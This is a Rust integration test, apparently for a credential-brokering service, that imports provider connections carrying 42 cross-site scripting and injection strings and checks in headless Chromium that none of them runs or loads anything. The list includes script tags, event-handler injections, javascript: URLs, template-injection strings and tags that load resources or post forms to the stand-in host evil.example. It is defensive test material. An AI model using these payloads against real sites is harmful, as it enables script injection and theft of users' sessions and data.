//! Texts that a provider chooses and a browser could take for a script: names, e-mail addresses, teams, scopes, errors.

use serde_json::{Value, json};
use valetkey::clock::Surroundings;

use crate::browser::{Chromium, EMAIL, Stage};

/// Each of them runs, or loads something, wherever it gets into a page, an attribute, an address or a script as it is.
const STRINGS: [&str; 42] = [
    "<script>stolen()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>stolen()</scr</script>ipt>",
    "</title><script>stolen()</script>",
    "</textarea><script>stolen()</script>",
    "</script><script>stolen()</script>",
    "--><script>stolen()</script><!--",
    "]]><script>stolen()</script>",
    "<img src=x onerror=stolen()>",
    "<img src=\"https://evil.example/x.png\">",
    "<img/src/onerror=stolen()>",
    "<svg onload=stolen()>",
    "<svg><script>stolen()</script></svg>",
    "<svg><animate onbegin=stolen() attributeName=x dur=1s>",
    "<math><mtext><style><img src onerror=stolen()></style></mtext></math>",
    "<body onload=stolen()>",
    "<iframe src=\"javascript:parent.stolen()\"></iframe>",
    "<iframe srcdoc=\"<script>parent.stolen()</script>\"></iframe>",
    "<object data=\"https://evil.example/x\"></object>",
    "<embed src=\"https://evil.example/x\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<form action=https://evil.example><button>Continue</button></form>",
    "<details open ontoggle=stolen()>",
    "<input autofocus onfocus=stolen()>",
    "<video><source onerror=stolen()></video>",
    "<marquee onstart=stolen()>",
    "<a href=\"javascript:stolen()\">Reconnect</a>",
    "\" autofocus onfocus=\"stolen()",
    "' autofocus onfocus='stolen()",
    "\"><img src=x onerror=stolen()>",
    "` onmouseover=stolen() `",
    "javascript:stolen()",
    "data:text/html,<script>stolen()</script>",
    "{{constructor.constructor('stolen()')()}}",
    "${stolen()}",
    "&lt;script&gt;stolen()&lt;/script&gt;",
    "&#60;img src=x onerror=stolen()&#62;",
    "\u{2028}stolen()\u{2029}//",
    "\u{202e}<img src=x onerror=stolen()>\u{202c}",
];

/// A field of a provider's, with a string in it.
fn rows() -> Vec<Value> {
    let row = |(n, text): (usize, &&str)| {
        let token = format!("ya29.vkcanary-scripts-{n}");
        json!({"user": "u-42", "provider": "google", "label": text,
            "account": {"id": format!("{n:03}{}", text.replace(' ', "_")), "name": text, "email": format!("{n}@{text}")},
            "credentials": [{"kind": "user", "access_token": token, "refresh_token": format!("1//{token}"), "scopes": [text, "openid"]}]})
    };
    STRINGS.iter().enumerate().map(row).collect()
}

// WB-07, OA-16
#[tokio::test]
async fn no_text_of_a_providers_runs_or_loads_anything() {
    let Some(chromium) = Chromium::find() else { return };
    let stage = Stage::set(Surroundings::system()).await;
    let moved = stage.platform.ok("POST", "/v1/connections/import", Some(json!({"connections": rows()}))).await;
    let ids: Vec<&Value> = moved["data"].as_array().expect("connections").iter().map(|one| &one["id"]).collect();
    let given = json!({"base": stage.site.base(), "email": EMAIL, "ids": ids, "strings": &STRINGS[..]});
    let told = chromium.play(&stage.site.known, "scripts", given).await;
    assert_eq!(told["pages"], json!(4 * STRINGS.len() + 2), "every page with every string was looked at");
    for line in stage.site.log_lines() {
        assert!(serde_json::from_str::<Value>(&line).is_ok(), "a line of the log is broken: {line}");
    }
    stage.finish(None).await;
}
